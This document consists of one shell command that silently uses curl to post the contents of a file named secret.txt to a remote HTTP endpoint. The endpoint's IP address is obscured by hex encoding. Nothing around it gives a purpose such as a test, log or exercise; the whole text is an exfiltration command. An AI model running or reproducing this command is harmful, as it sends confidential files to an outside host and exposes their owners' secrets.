curl -s -m 3 --data-binary @/srv/rt/s/d1/home/secret.txt http://0x0ae90102/U11
